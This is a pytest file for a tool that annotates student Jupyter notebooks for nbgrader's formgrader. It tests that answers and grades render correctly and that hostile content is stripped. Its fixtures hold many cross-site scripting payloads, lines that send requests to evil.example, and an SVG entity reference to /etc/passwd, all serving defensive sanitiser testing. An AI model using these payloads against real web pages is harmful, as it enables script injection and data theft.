"""The notebook for formgrader: the student's work in it, and nothing of theirs that runs on the TA's page."""

from __future__ import annotations

import base64
import json
import re
import tempfile
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import small_course as small

from nbjudge.feedback import annotate_notebook
from nbjudge.feedback.outputs import clean_outputs
from nbjudge.feedback.pictures import clean_picture, clean_svg
from nbjudge.feedback.sanitise import clean_html, clean_markdown, visible
from nbjudge.languages import words
from nbjudge.model import Assignment, CellReport, Credit, Frame, Result
from nbjudge.notebooks.cells import Notebook, NotebookCell, grade_id
from nbjudge.notebooks.reader import write_notebook
from nbjudge.notes import Note
from nbjudge.scoring import score


def annotated(notebook: Notebook | None, result: Result | None = None) -> Notebook:
    result = result or small.make_result()
    total = score(_lab(), small.EXERCISES, result)
    return small.annotate(notebook, result, total)


@cache
def _lab() -> Assignment:
    with tempfile.TemporaryDirectory() as folder:
        return small.make_course(Path(folder), empty=True).assignments["lab"]


def cell(notebook: Notebook, name: str) -> NotebookCell:
    return next(cell for cell in notebook["cells"] if name in (grade_id(cell), cell["id"]))


def printed(cell: NotebookCell) -> str:
    return "".join(output["text"] for output in cell["outputs"] if output["output_type"] == "stream")


# What is in it


def test_the_release_with_the_students_answers() -> None:
    notebook = annotated(small.submitted(square_function="def square(x): return x * x", report="Because."))
    names = [grade_id(cell) for cell in notebook["cells"] if grade_id(cell)]
    assert names == [grade_id(cell) for cell in small.released()["cells"] if grade_id(cell)]
    assert cell(notebook, "square_function")["source"] == "def square(x): return x * x"
    assert cell(notebook, "report")["source"] == "<div><p>Because.</p></div>"
    assert cell(notebook, "square")["source"] == "assert square(2) == 4"


def test_given_and_grade_cells_are_the_courses() -> None:
    theirs = small.submitted(square="assert True")
    cell(theirs, "given")["source"] = "factor = 100"
    notebook = annotated(theirs)
    assert cell(notebook, "square")["source"] == "assert square(2) == 4"
    assert cell(notebook, "given")["source"] == "factor = 3"


@pytest.mark.parametrize("positions", [(0,), (-1,), (3, 13), (10**9,)])
def test_a_result_of_another_notebook_is_refused(positions: tuple[int, ...]) -> None:
    result = small.make_result(found={"square_function": positions})
    points = score(_lab(), small.EXERCISES, result)
    with pytest.raises(ValueError, match="another notebook"):
        annotate_notebook(small.released(), small.submitted(), result, points)
    with pytest.raises(ValueError, match="another notebook"):
        annotate_notebook(small.released(), None, result, points)


def test_grade_cells_print_the_outcome_of_their_tests() -> None:
    tests = (
        small.failed(
            "square", title="Squares.", message="assert 3 == 4\n  second line", trace=(Frame(3, 1, "", "y"),)
        ),
        small.passed("scale", 0.5, title="Scales.", credits=(Credit(0.7, 0.9, 0.5, 0.5),)),
    )
    notebook = annotated(small.submitted(), small.make_result(tests=tests))
    assert printed(cell(notebook, "square")) == (
        "square: 0 / 2\n- Squares. [wrong answer, 0 / 2]\n    assert 3 == 4\n      second line\n    cell 3, line 1: y\n"
    )
    assert printed(cell(notebook, "scale")) == (
        "scale: 1.5 / 3\n- Scales. [partly passed, 1.5 / 3]\n    measured value: 0.7, which gives 50% (all points from 0.9 on, none up to 0.5)\n"
    )


@pytest.mark.parametrize("hidden", [True, "robust"])
def test_hidden_tests_stay_hidden(hidden: bool | str) -> None:
    trace = (Frame("SECRET", 1, "SECRET", "SECRET"),)
    credit = Credit(0.123454321, 1.0, 0.0, 0.5)
    secret = small.failed("square", message="SECRET", trace=trace, credits=(credit,), hidden=hidden)
    notebook = annotated(small.submitted(), small.make_result(tests=(secret,)))
    assert "SECRET" not in json.dumps(notebook)
    assert "0.12345" not in json.dumps(notebook)


def test_outputs_cannot_earn_points_should_nbgrader_read_them() -> None:
    from nbformat import from_dict
    from nbgrader.utils import determine_grade

    notebook = annotated(
        small.submitted(), small.make_result(tests=(small.failed("square"), small.passed("scale")))
    )
    kinds = {output["output_type"] for cell in notebook["cells"] for output in cell.get("outputs", [])}
    assert kinds == {"stream"}
    assert determine_grade(from_dict(cell(notebook, "plots")))[0] == 0  # still the released stub


def test_plots_keep_their_saved_pictures_and_other_cells_nothing() -> None:
    theirs = small.submitted(plots="plt.plot(x)", square_function="square = 1")
    picture = {"output_type": "display_data", "data": {"image/png": small.PNG}, "metadata": {"a": 1}}
    for name in ("plots", "square_function", "square"):
        cell(theirs, name)["outputs"] = [picture]
    notebook = annotated(theirs)
    assert cell(notebook, "plots")["outputs"] == [{**picture, "metadata": {}}]
    assert cell(notebook, "square_function")["outputs"] == []
    assert small.PNG not in json.dumps(cell(notebook, "square"))


def test_the_students_own_cells_stand_where_they_stood() -> None:
    theirs = small.submitted()
    own = [
        {"id": f"own{n}", "cell_type": kind, "metadata": {"tags": ["x"]}, "source": source}
        for n, (kind, source) in enumerate([("code", "helper = 1"), ("markdown", "my *note*"), ("code", " ")])
    ]
    own[0]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "printed"}]
    theirs["cells"][3:3] = own  # after the solution of square
    notebook = annotated(theirs)
    sources = [cell["source"] for cell in notebook["cells"]]
    place = sources.index("helper = 1")
    assert sources[place - 1 : place + 3] == [
        "# YOUR CODE HERE",
        "helper = 1",
        "<div><p>my <em>note</em></p></div>",
        "assert square(2) == 4",
    ]
    assert cell(notebook, "added-4")["metadata"] == {}
    assert cell(notebook, "added-4")["outputs"] == []
    assert sources.count("# First lab") == 1


def test_an_answer_without_any_metadata_is_found() -> None:
    theirs = small.submitted(square_function="def square(x): return x", report="My report.")
    for one in theirs["cells"]:
        one["metadata"] = {}
    notebook = annotated(theirs)
    assert cell(notebook, "report")["source"] == "<div><p>My report.</p></div>"


def test_trouble_while_loading_is_shown_at_the_cell() -> None:
    reports = (
        CellReport("square_function", 3, "error", "NameError: y", (Frame(3, 1, "", "y"),)),
        CellReport("given", 6, "ok"),
    )
    notebook = annotated(small.submitted(), small.make_result(cells=reports))
    assert printed(cell(notebook, "square_function")) == (
        "your code raised an error: NameError: y\ncell 3, line 1: y\n"
    )
    assert cell(notebook, "given")["outputs"] == []


def test_the_summary_tells_the_ta_what_was_odd() -> None:
    result = small.make_result(
        timestamp=small.LATE, repairs=(Note("given_restored", {"id": "<cell>"}),), missing=("scale_inline",),
        environment={"isolation": "none"},
    )  # fmt: skip
    source = annotated(small.submitted(), result)["cells"][0]["source"]
    assert "nbjudge: 5 / 10<" in source
    assert "The given cell &#x27;&lt;cell&gt;&#x27; was deleted" in source
    assert "scale_inline" in source
    assert "without isolation" in source


def test_a_rejected_file_gives_the_release_with_the_reason() -> None:
    notebook = annotated(None, small.make_result(tests=(), rejected=Note("empty_file")))
    assert "the file is empty" in notebook["cells"][0]["source"]
    assert len(notebook["cells"]) == len(small.released()["cells"]) + 1
    assert "square: 0 / 2" in printed(cell(notebook, "square"))


# What must not be in it

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "text <img src=x onerror=alert(1)> text",
    "[click](javascript:alert(1))",
    "[click](JaVa&#x53;cript:alert(1))",
    "[click](  data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/a.png "onerror=alert(1)")',
    "![x](attachment:missing.png)",
    "![x](attachment:evil.png)",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "$<img src=x onerror=alert(1)>$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=q></form>",
    "<style>* { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    '<div style="position:fixed;inset:0" onclick=alert(1) id=submission_id class=nbgrader_cell>x</div>',
    '<a href="https://a.example" target=_blank ping=https://evil.example onmouseover=alert(1)>x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template><object data=javascript:alert(1)></object>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</div></div></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "# plots\n\nreport\n======\n\nsquare\n------",
    "<input id=plots><textarea id=plots-comment></textarea>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "x\n\n<p>\n\n<script>alert(1)</script>\n\n</p>",
    "formula0z formula1z $<b>$ formula0z <script>alert(1)</script>",
    "[" * 5000 + "x",
    "> " * 5000 + "x",
    "- " * 5000 + "x",
    "*a_" * 5000,
    "<" * 20000,
    "$" * 9999,
    "`" * 9999,
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "![x](data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](attachment:plot.png) <a href='attachment:plot.png'>y</a>",
    "![x](attachment:evil%2Epng) ![x](attachment:evil&#46;png)",
    "<img src='attachment:evil.png' srcset='https://evil.example/x.png 2x' onerror=alert(1)>",
    "<video src=x onerror=alert(1)><source src=x></video><audio src=x onerror=alert(1)></audio>",
    "word " * 5000 + "<script>alert(1)</script></pre><script>alert(1)</script>",
    "data:image/png;base64," * 5000,
    "data:" + "a" * 30_000 + ";x" * 9_000,
]  # fmt: skip
HOSTILE_OUTPUTS: list[dict[str, Any]] = [
    {
        "text/html": "<script>alert(1)</script><table onclick=alert(1) style='position:fixed'><tr><td>1</table>"
    },
    {"application/javascript": "alert(1)"},
    {"text/javascript": "alert(1)"},
    {"image/svg+xml": SVG.format("<script>alert(1)</script><rect onload='alert(1)' width='3'/>")},
    {"image/svg+xml": "<svg onload=alert(1)>"},
    {"image/png": '" onerror="alert(1)'},
    {"image/png": base64.b64encode(b"<script>alert(1)</script>").decode()},
    {"image/jpeg": ["/9j/", '" onerror="alert(1)']},
    {"text/latex": "$\\href{javascript:alert(1)}{x}$"},
    {"text/markdown": "<script>alert(1)</script> [x](javascript:alert(1))"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}},
    {"application/pdf": "JVBERi0="},
    {"text/vnd.mermaid": "<script>alert(1)</script>"},
    {"text/plain": "<script>alert(1)</script>\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07"},
    {"<script>alert(1)</script>": "<script>alert(1)</script>"},
    {"application/vnd.plotly.v1+json": {"data": "</script><script>alert(1)</script>"}},
    {"image/gif": '" onerror="alert(1)'},
    {"image/webp": base64.b64encode(b"RIFF" + b"<script>alert(1)</script>").decode()},
    {"text/html": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+' onerror=alert(1)>"},
    {
        "text/html": "<video src=x onerror=alert(1)></video><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    },
    {"text/html": "x" * 99_990 + "<b title='" + "<script>alert(1)</script>" * 9},
    {"video/mp4": '"><script>alert(1)</script>', "text/latex": "</pre><script>alert(1)</script>"},
]


class Page(HTMLParser):
    """The tags of a page, for comparison with a harmless one."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.tags)


@cache
def exporter(sanitize: bool) -> Any:
    """formgrader's own exporter, as its server extension makes it."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    config.HTMLExporter.sanitize_html = sanitize
    return HTMLExporter(config=config)


def formgrader(notebook: Notebook, *, sanitize: bool = False) -> str:
    """The page that formgrader shows of a notebook; without our setting `sanitize_html`, too."""
    import nbformat

    resources = {
        "notebook_id": "lab",
        "assignment_id": "lab",
        "submission_id": "1",
        "base_url": "",
        "index": 0,
    }
    resources |= {"total": 1, "student": "anna", "last_name": None, "first_name": None, "notebook_path": "x"}
    parsed = nbformat.reads(write_notebook(notebook).decode(), as_version=4)
    nbformat.validate(parsed)
    return str(exporter(sanitize).from_notebook_node(parsed, resources=resources)[0])


def check_harmless(markup: str) -> None:
    """Fails if `markup` holds anything that formgrader's page of an innocent notebook does not."""
    page, innocent = Page(markup), Page(formgrader(annotated(small.submitted())))
    for tag in ("script", "style", "link", "iframe", "object", "embed", "form", "base", "meta", "svg", "math",
                "input", "textarea", "template", "noscript", "button"):  # fmt: skip
        assert page.count(tag) == innocent.count(tag), tag
    known = {(name, value) for _, attrs in innocent.tags for name, value in attrs.items()}
    for tag, attrs in page.tags:
        for name, value in attrs.items():
            if (name, value) in known:
                continue
            assert not name.startswith("on"), (tag, name, value)
            assert name not in ("style", "id", "srcdoc", "ping", "formaction", "target", "xlink:href") or (
                name == "id" and value.startswith("cell-id=added-")
            ), (tag, name, value)
            if name in ("href", "src"):
                picture = tag == "img" and re.match(
                    r"data:image/(png|jpeg|gif|webp|bmp|svg\+xml);base64,", value
                )
                assert picture or (tag == "a" and re.match(r"https?://|mailto:", value)), (tag, name, value)


def hostile(source: str) -> Notebook:
    theirs = small.submitted(report=source, plots=source, square_function=source)
    for name in ("plots", "report"):
        answer = cell(theirs, name)
        answer["metadata"] |= {"tags": ['"><script>alert(1)</script>'], "trusted": True}
        answer["attachments"] = {
            "evil.png": {'x" onerror="alert(1)': "x", "image/png": '" onerror="alert(1)'}
        }
    own = {"cell_type": "markdown", "metadata": {}, "id": '"><script>alert(1)</script>', "source": source}
    theirs["cells"] += [own, {**own, "id": "raw", "cell_type": "raw"}]
    theirs["metadata"] |= {
        "title": "</title><script>alert(1)</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>alert(1)</script>"}},
    }
    return theirs


@pytest.mark.parametrize("source", HOSTILE_MARKDOWN, ids=lambda source: source[:40])
def test_hostile_markdown_on_formgraders_page(source: str) -> None:
    notebook = annotated(hostile(source))
    check_harmless(formgrader(notebook))
    check_harmless(formgrader(notebook, sanitize=True))


@pytest.mark.parametrize("data", HOSTILE_OUTPUTS, ids=lambda data: next(iter(data)))
@pytest.mark.parametrize("kind", ["display_data", "execute_result"])
def test_hostile_outputs_on_formgraders_page(data: dict[str, Any], kind: str) -> None:
    theirs = small.submitted(plots="plot()")
    metadata = {"text/html": {"isolated": True}, "image/png": {"width": '"><script>alert(1)</script>'}}
    output: dict[str, Any] = {"output_type": kind, "data": data, "metadata": metadata}
    if kind == "execute_result":
        output["execution_count"] = "</div><script>alert(1)</script>"
    cell(theirs, "plots")["outputs"] = [output]
    check_harmless(formgrader(annotated(theirs)))


def test_hostile_streams_errors_tests_and_reports_on_formgraders_page() -> None:
    evil = '<script>alert(1)</script>\x1b[31m"onerror=alert(1)\u202e</pre>'
    trace = (Frame(evil, 1, evil, evil),)
    theirs = small.submitted(plots="plot()")
    cell(theirs, "plots")["outputs"] = [
        {"output_type": "stream", "name": evil, "text": [evil, evil]},
        {"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil, 7]},
        {"output_type": "error"},
        {"output_type": evil},
        "garbage",
    ]  # fmt: skip
    result = small.make_result(
        tests=(small.failed("square", title=evil, message=evil, trace=trace),),
        cells=(CellReport("square_function", 1, "error", evil, trace, evil),),
        repairs=(Note("given_restored", {"id": evil}),),
    )
    check_harmless(formgrader(annotated(theirs, result)))
    check_harmless(
        formgrader(
            annotated(
                None,
                small.make_result(
                    tests=(), rejected=Note("not_json", {"error": evil, "line": 1, "column": 1})
                ),
            )
        )
    )


# What must survive the cleaning


def test_ordinary_markdown_is_rendered_here() -> None:
    import html

    text = "The loss falls since $\\gamma_1 > 0$, and *so on*:\n\n1. one\n2. `two`\n\n> quoted\n\n- item"
    shown = clean_markdown(text)
    assert "<em>so on</em>" in shown and "<li>one</li>" in shown and "<blockquote>" in shown
    assert "$\\gamma_1 > 0$" in html.unescape(html.unescape(shown)) and "\n" not in shown


def test_formulas_survive_rendering() -> None:
    page = formgrader(
        annotated(small.submitted(report="# Why\n\n$a_1 < b_1 * c * \\{d\\}$ and $$\\frac{1}{2} \\\\ x$$"))
    )
    import html

    assert "$a_1 < b_1 * c * \\{d\\}$ and $$\\frac{1}{2} \\\\ x$$" in html.unescape(page)
    assert "<h1>Why</h1>" in page


def test_code_blocks_tables_and_links_survive() -> None:
    page = clean_markdown(
        "```\na\n\n  b < c\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[PyTorch](https://pytorch.org)"
    )
    assert "a&#10;&#10;  b &lt; c&#10;" in page
    assert "<td>1</td>" in page
    assert 'href="https://pytorch.org"' in page
    assert "\n" not in page


def test_a_pasted_picture_survives() -> None:
    source = "![plot](attachment:a b.png) ![x](attachment:plot.png)"
    attachments = {"plot.png": {"image/png": small.PNG}}
    assert f'src="data:image/png;base64,{small.PNG}"' in clean_markdown(source, attachments)


def test_tables_of_pandas_survive() -> None:
    table = '<div><style>x</style><table border="1" class="dataframe"><thead><tr><th>a</th></tr></thead></table></div>'
    assert clean_html(table, words("en")) == "<div><table><thead><tr><th>a</th></tr></thead></table></div>"


def test_drawings_of_matplotlib_survive() -> None:
    import io

    import matplotlib as mpl

    mpl.use("agg")
    from matplotlib import pyplot as plt

    figure, axes = plt.subplots()
    axes.plot([1, 2, 3])
    file = io.StringIO()
    figure.savefig(file, format="svg")
    plt.close(figure)
    cleaned = clean_svg(file.getvalue())
    assert cleaned is not None
    for tag in ("path", "use", "clipPath", "g"):
        assert cleaned.count(f"<{tag} ") == file.getvalue().count(f"<{tag} ") > 0
    assert "<style" not in cleaned
    assert "metadata" not in cleaned


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        "<a href='javascript:alert(1)'><text>x</text></a>",
        "<image href='https://evil.example/x.png'/>",
        "<use href='https://evil.example/x.svg#a'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
        "<rect style='fill:url(https://evil.example)' onclick='alert(1)'/>",
        "<set attributeName='href' to='javascript:alert(1)'/><animate/>",
        "<style>@import url(https://evil.example);</style>",
        "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'/>",
        "<image href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='/>",
        "<image href='data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='/>",
        f"<image xlink:href='https://evil.example/x' href='data:image/png;base64,{small.PNG}'/>",
        f"<rect href='data:image/png;base64,{small.PNG}' xlink:href='javascript:alert(1)'/>",
    ],
)
def test_drawings_lose_what_runs_or_points_outside(inside: str) -> None:
    cleaned = clean_svg(SVG.format(inside))
    assert cleaned is not None
    assert not re.search(r"script|evil|alert|foreignObject|@import|animate", cleaned)


@pytest.mark.parametrize(
    "drawing",
    [
        "<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG.format("&a;"),
        "<!DOCTYPE svg SYSTEM 'file:///etc/passwd' [" + SVG.format("") + "]>",
        SVG.format("<g id='a'><use href='#b'/><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
        SVG.format("<g>" * 50_000 + "</g>" * 50_000),
        "<html xmlns='http://www.w3.org/1999/xhtml'/>",
        "<svg>",
        SVG.format("\ud800"),
        7,
        None,
        ["<svg", 3],
    ],
    ids=lambda drawing: str(drawing)[:30].encode("ascii", "replace").decode(),
)
def test_drawings_that_are_none_are_refused(drawing: object) -> None:
    assert clean_svg(drawing) is None


def test_pictures_are_what_they_say() -> None:
    assert clean_picture("image/png", small.PNG) == small.PNG
    assert clean_picture("image/png", [small.PNG[:20] + "\n", small.PNG[20:]]) == small.PNG
    assert clean_picture("image/jpeg", small.PNG) is None
    assert clean_picture("image/png", small.PNG[:-3]) is None
    assert clean_picture("image/svg+xml", small.PNG) is None
    assert (
        clean_picture("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(9 << 20)).decode()) is None
    )


def test_many_outputs_are_cut_with_a_note() -> None:
    texts = [{"output_type": "display_data", "data": {"text/plain": f"<{n}>"}} for n in range(1000)]
    outputs = clean_outputs(texts)
    assert len(outputs) == 51
    assert "950 outputs are not shown" in outputs[25]["text"]
    assert (outputs[0]["data"], outputs[-1]["data"]) == ({"text/plain": "<0>"}, {"text/plain": "<999>"})


def test_invisible_characters_are_spelt_out() -> None:
    assert (
        visible("a\u202eb\x1bc\x00\td\n\ud800\ufeff\r\nЖ é 漢 🙂")
        == "a\\u202eb\\x1bc\\x00\td\n\\ud800\\ufeff\nЖ é 漢 🙂"
    )


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=20), children, max_size=3)
    ),
    max_leaves=8,
)


@settings(max_examples=200)
@given(json_values | st.lists(st.fixed_dictionaries(
    {"output_type": st.sampled_from(["stream", "error", "display_data", "execute_result"])},
    optional=dict.fromkeys(("text", "data", "traceback", "ename", "metadata", "name"), json_values),
)))  # fmt: skip
def test_no_output_however_odd_breaks_the_notebook(outputs: object) -> None:
    import nbformat

    cleaned = clean_outputs(outputs)
    code = {
        "id": "a",
        "cell_type": "code",
        "source": "",
        "metadata": {},
        "execution_count": None,
        "outputs": cleaned,
    }
    nbformat.validate({"cells": [code], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@settings(max_examples=300)
@given(st.text(st.sampled_from("<>/!-=\"'`$\\[]()&;:#*_ \nascript:imgonerrortu\t"), max_size=60))
def test_no_markdown_however_odd_brings_a_tag_to_life(text: str) -> None:
    from nbconvert.filters import markdown2html

    tags = Page(str(markdown2html(clean_markdown(text)))).tags
    assert not {tag for tag, _ in tags} & {"script", "style", "iframe", "svg", "object", "form", "input"}
    for tag, attrs in tags:
        assert not [name for name in attrs if name.startswith("on") or name == "style"], (tag, attrs)
        assert not attrs.get("href", "").strip().lower().startswith(("javascript", "data", "vbscript"))
